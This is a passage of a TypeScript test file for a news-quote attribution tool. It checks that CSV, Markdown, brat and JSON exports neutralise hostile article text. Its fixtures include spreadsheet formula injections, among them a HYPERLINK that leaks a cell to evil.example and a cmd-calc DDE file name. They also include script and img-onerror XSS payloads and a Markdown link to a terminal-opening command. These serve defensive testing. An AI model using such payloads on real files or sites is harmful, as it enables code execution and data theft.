    entities: [reyes, klein],
    quotes: [
      quote('q1', { kind: 'indirect', content: [span('the pier is ready', '', T)], cue: textSpan('said', '', T), source: textSpan('Reyes', '', T), speaker: 'e1' }),
      quote('q2', { kind: 'direct', content: [span('"Reyes did well,"', '', T)], cue: textSpan('said', 'Klein', T), source: textSpan('Klein', '', T), speaker: 'e2' }),
      quote('q3', { kind: 'indirect', content: [span('the talks went well', '', T)], cue: textSpan('said', 'Both', T), source: textSpan('Both ministers', '', T) }),
    ],
    credits: [],
  };
  const v = new ArticleView(A, T);

  it('colours a speaker where they speak, not where someone else\'s quote names them', () => {
    const plan = v.decorations();
    assert.deepEqual(texts(plan.speakers[0]!, T), ['Reyes']);
    assert.equal(plan.speakers[0]![0]!.start, 0, 'the "Reyes" of "Reyes said", not the one inside Klein\'s quote');
    assert.deepEqual(texts(plan.speakers[1]!, T), ['Klein']);
  });

  it('hovers a name inside a quote with the quote first, then the name', () => {
    const hover = v.hoverAt(T.indexOf('Reyes did') + 1)!;
    const [quotePart, namePart] = hover.markdown.split('\n\n---\n\n');
    assert.equal(lines(quotePart!)[0], '**Direct quote**');
    assert.equal(lines(quotePart!)[1], '**Said by** Klein');
    assert.equal(lines(namePart!)[0], '**Reyes** · person');
  });

  it('groups a source matched to no one by its words, apart from the unattributed, and counts it', () => {
    const { story } = v.sources();
    const group = story.find((g) => g.kind === 'unresolved');
    assert.ok(group);
    assert.equal(group.label, 'Both ministers');
    assert.equal(group.description, 'not matched to a name · 1 reported');
    assert.ok(!story.some((g) => g.kind === 'unattributed'));
    assert.equal(v.counts().sources, 3);
    assert.equal(lines(v.quoteHover(A.quotes[2]!))[1], '**Said by** “Both ministers”, not matched to anyone named in the article');
  });

  it('escapeMarkdownLine also keeps text at a line start from becoming a heading, list or quote', () => {
    assert.equal(escapeMarkdownLine('- not a list'), '\\- not a list');
    assert.equal(escapeMarkdownLine('1. not a list'), '1\\. not a list');
    assert.equal(escapeMarkdownLine('# not a heading'), '\\# not a heading');
    assert.equal(escapeMarkdownLine('> not a quote'), '\\> not a quote');
    assert.equal(escapeMarkdownLine('plain words'), 'plain words');
  });
});

// ───────────── exports are safe to open ─────────────
// Article text in an export never acts: no spreadsheet formula in the CSV, nothing that renders as
// a link, an image, HTML or a block in the Markdown, no line break inside a brat record or a JSON
// Lines record. Each guard of src/present/{csv,markdown-text,brat,json}.ts has a case here that
// fails without it (checked by reverting each guard, see the README's "Robustness").

describe('present: exports are safe to open', () => {
  /** A hand-built analysis of `text`. */
  const build = (text: string, entities: Entity[], quotes: Quote[], file = 'hostile.txt'): Analysis => ({
    schema: SCHEMA,
    file,
    length: text.length,
    body: { start: 0, end: text.length },
    entities,
    quotes,
    credits: [],
  });
  const at2 = (text: string, needle: string, after = ''): TextSpan => textSpan(needle, after, text);

  describe('CSV: no cell a spreadsheet would run as a formula', () => {
    // Each text column starts with another of the characters OWASP (and ASVS, for NUL) lists.
    const T = [
      '+Mr Evil (-1 title) told @source: =HYPERLINK("http://evil.example/?leak="&A1,"Click") was fine.',
      '',
      '\tThey said:\r"\u0000null start" and more.',
      '',
    ].join('\n');
    const evil: Entity = { id: 'e1', type: 'person', name: '+Mr Evil', title: '-1 title', mentions: [{ ...at2(T, '+Mr Evil'), via: 'name' }] };
    const a = build(
      T,
      [evil],
      [
        quote('q1', {
          kind: 'indirect',
          content: [span('=HYPERLINK("http://evil.example/?leak="&A1,"Click") was fine', '', T)],
          cue: at2(T, 'told'),
          source: at2(T, '@source'),
          speaker: 'e1',
        }),
        quote('q2', { kind: 'direct', content: [span('\r"\u0000null start"', '', T)], cue: at2(T, 'said'), source: at2(T, '\tThey') }),
        quote('q3', { kind: 'direct', content: [span('\u0000null start"', '', T)] }),
      ],
      "=cmd|' /C calc'!A0.txt",
    );
    const out = csvHeader() + formatCsvRows(a, T);

    it('prefixes an apostrophe to every cell starting with = + - @, a tab, a CR or a NUL', () => {
      const rows = out.split('\r\n').slice(1, -1);
      // Worked out by hand: file, quote, kind, speaker, speaker_title, anonymous, source, cue, content, start, end, confidence.
      const s1 = T.indexOf('=HYPERLINK');
      const e1 = T.indexOf(' was fine') + ' was fine'.length;
      assert.equal(
        rows[0],
        `'=cmd|' /C calc'!A0.txt,q1,indirect,'+Mr Evil,'-1 title,false,'@source,told,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"") was fine",${s1},${e1},0.8`,
      );
      const s2 = T.indexOf('\r"');
      const e2 = T.indexOf('start"') + 'start"'.length;
      // q2's content starts with a CR: the record holds it quoted, so split the rest by hand.
      assert.ok(out.includes(`'=cmd|' /C calc'!A0.txt,q2,direct,,,false,'\tThey,said,"'\r""\u0000null start""",${s2},${e2},0.8\r\n`), JSON.stringify(out));
      assert.ok(out.endsWith(`'=cmd|' /C calc'!A0.txt,q3,direct,,,false,,,"'\u0000null start""",${s2 + 2},${e2},0.8\r\n`), JSON.stringify(out));
    });

    it('leaves a formula character that is not the first one alone, and never marks the numbers it writes', () => {
      assert.ok(out.includes(',told,'), 'a plain cell stays plain');
      assert.ok(!out.includes("'0.8") && !out.includes(`'${T.indexOf('=HYPERLINK')}`));
    });
  });

  describe('Markdown: article text renders as text', () => {
    const NAME = '[x](command:workbench.action.terminal.new)';
    const T = [
      `${NAME} said "<script>alert(1)</script> <img src=x onerror=alert(1)> www.evil.example & https://evil.example/a_b".`,
      '',
      `${NAME} told reporters # Breaking: **bold** _em_ ~~gone~~ \`code\` $x$ \\ end.`,
      '',
      '"1. first\u2028- second\u2029+ third\u0085= fourth\r\n> fifth\rsixth\nseventh," | a | b | said.',
      '',
      '=HYPERLINK("http://evil.example","x") warned reporters.',
      '',
    ].join('\n');
    const x: Entity = { id: 'e1', type: 'person', name: NAME, title: '<b>Minister</b>', mentions: [{ ...at2(T, NAME), via: 'name' }] };
    const a = build(
      T,
      [x],
      [
        quote('q1', {
          kind: 'direct',
          content: [span('"<script>alert(1)</script> <img src=x onerror=alert(1)> www.evil.example & https://evil.example/a_b"', '', T)],
          cue: at2(T, 'said'),
          source: at2(T, NAME),
          speaker: 'e1',
        }),
        quote('q2', {
          kind: 'indirect',
          content: [span('# Breaking: **bold** _em_ ~~gone~~ `code` $x$ \\ end', '', T)],
          cue: at2(T, 'told'),
          source: at2(T, NAME, '\n\n'),
          speaker: 'e1',
        }),
        quote('q3', {
          kind: 'direct',
          content: [span('"1. first\u2028- second\u2029+ third\u0085= fourth\r\n> fifth\rsixth\nseventh,"', '', T)],
          cue: at2(T, 'said', 'seventh'),
          source: at2(T, '| a | b |'),
        }),
        quote('q4', { kind: 'indirect', content: [span('=HYPERLINK("http://evil.example","x")', '', T)], cue: at2(T, 'warned') }),
      ],
      'news/<img src=x onerror=alert(1)>.txt',
    );
    const md = formatMarkdown(a, T);
    const mdLines = md.split('\n');

    it('(the fixture: every span holds the text it claims)', () => {
      for (const q of a.quotes) for (const t of [q.cue, q.source]) if (t) assert.equal(T.slice(t.start, t.end), t.text);
      assert.equal(T.slice(x.mentions[0]!.start, x.mentions[0]!.end), NAME);
      assert.ok(a.quotes[1]!.source!.start > a.quotes[0]!.source!.start);
    });

    it('escapes a command: link in a speaker name, in the heading and the table', () => {
      const escapedName = '\\[x\\](command\\:workbench.action.terminal.new)';
      assert.ok(mdLines.includes(`### ${escapedName}`), md);
      assert.ok(mdLines.some((l) => l.startsWith(`| ${escapedName} | \\<b\\>Minister\\</b\\> | 1 | 1 | 0 | `)), md);
      assert.ok(!md.includes('](command:') && !md.includes('<b>'), md);
    });

    it('escapes HTML tags, entities, links and autolinks in a quote', () => {
      assert.ok(
        mdLines.includes('> "\\<script\\>alert(1)\\</script\\> \\<img src=x onerror=alert(1)\\> www\\.evil.example \\& https\\://evil.example/a\\_b"'),
        md,
      );
      assert.ok(!/(?<!\\)<\/?(?:script|img|b)\b/.test(md), md);
    });

    it('escapes emphasis, code, strike, math and backslashes, and keeps a block from starting inside a line', () => {
      assert.ok(mdLines.includes('> \\# Breaking\\: \\*\\*bold\\*\\* \\_em\\_ \\~\\~gone\\~\\~ \\`code\\` \\$x\\$ \\\\ end'), md);
    });

    it('flattens every line break of the article (LF, CRLF, CR, NEL, LS, PS) so a quote stays one line', () => {
      assert.ok(mdLines.includes('> "1. first - second + third = fourth \\> fifth sixth seventh,"'), md);
      assert.ok(!/[\r\u0085\u2028\u2029]/.test(md), JSON.stringify(md));
    });

    it('starts a quote line with an escaped list number, dash, plus, equals or hash when the quote does', () => {
      const lead = (content: string): string[] => {
        const text = `${content} said.`;
        const q = quote('q1', { kind: 'indirect', content: [{ start: 0, end: content.length }], cue: at2(text, 'said') });
        return formatMarkdown(build(text, [], [q]), text).split('\n').filter((l) => l.startsWith('> '));
      };
      assert.deepEqual(lead('1. one'), ['> 1\\. one']);
      assert.deepEqual(lead('2) two'), ['> 2\\) two']);
      assert.deepEqual(lead('- dash'), ['> \\- dash']);
      assert.deepEqual(lead('+ plus'), ['> \\+ plus']);
      assert.deepEqual(lead('= equals'), ['> \\= equals']);
      assert.deepEqual(lead('# hash'), ['> \\# hash']);
    });

    it('keeps a table row to its own six cells when a source holds pipes', () => {
      const row = mdLines.find((l) => l.startsWith('| \\| a \\| b \\| |'));
      assert.equal(row, '| \\| a \\| b \\| |  | 1 | 0 | 0 | "1. first - second + third = fourth \\> fifth sixth seventh," |', md);
    });

    it('escapes the file name in the title; a formula in Markdown is only text', () => {
      assert.equal(mdLines[0], '# Sources: news/\\<img src=x onerror=alert(1)\\>.txt');
      assert.ok(mdLines.includes('> \\=HYPERLINK("http\\://evil.example","x")'), md);
    });
  });

  describe('brat: one record, one line', () => {
    // Every character that ends a line for Python's str.splitlines (brat reads .ann files in Python).
    const BREAKS = ['\n', '\r\n', '\r', '\v', '\f', '\x1c', '\x1d', '\x1e', '\x85', '\u2028', '\u2029'];
    const T = `Ana said "${BREAKS.map((b, i) => `w${i}${b}`).join('')}end".\n`;
    const content = { start: T.indexOf('"w0'), end: T.indexOf('end"') + 4 };
    const a = build(T, [], [quote('q1', { kind: 'direct', content: [content], cue: at2(T, 'said'), source: at2(T, 'Ana') })]);
    const ann = formatBrat(a, T);

    it('replaces each line break inside a copied text by spaces, one for one, keeping the offsets', () => {
      const lines = ann.split(/\r\n|[\n\r\v\f\x1c\x1d\x1e\x85\u2028\u2029]/);
      assert.equal(lines.pop(), '');
      assert.equal(lines.length, 5, `Source, Cue, Content, trigger and event, one line each:\n${JSON.stringify(ann)}`);
      const copy = `"${BREAKS.map((b, i) => `w${i}${' '.repeat(b.length)}`).join('')}end"`;
      assert.equal(lines[2], `T3\tContent ${content.start} ${content.end}\t${copy}`);
      assert.equal(copy.length, content.end - content.start, 'brat checks the copy against the span length');
    });
  });

  describe('JSON and JSON Lines: one record, one line', () => {
    const T = 'Ana said "one\u2028two\u2029three\u0085four".';
    const a = build(
      T,
      // A made-up entity whose name holds the separators: the way they reach the JSON as text.
      [{ id: 'e1', type: 'person', name: 'A\u2028B\u2029C\u0085D', title: null, mentions: [{ ...at2(T, 'Ana'), via: 'name' }] }],
      [quote('q1', { kind: 'direct', content: [{ start: T.indexOf('"'), end: T.length - 1 }], cue: at2(T, 'said'), source: at2(T, 'Ana'), speaker: 'e1' })],
    );

    it('writes NEL, LS and PS as \\u escapes, so no line splitter cuts a record, and parses back the same', () => {
      const line = formatJsonl(a);
      assert.ok(line.includes('"name":"A\\u2028B\\u2029C\\u0085D"'), line);
      assert.deepEqual(line.split(/\r\n|[\n\r\v\f\x1c\x1d\x1e\x85\u2028\u2029]/), [line.slice(0, -1), '']);
      assert.deepEqual(JSON.parse(line), a);
      const pretty = formatJson(a);
      assert.ok(!/[\u0085\u2028\u2029]/.test(pretty));
      assert.deepEqual(JSON.parse(pretty), a);
    });
  });
});
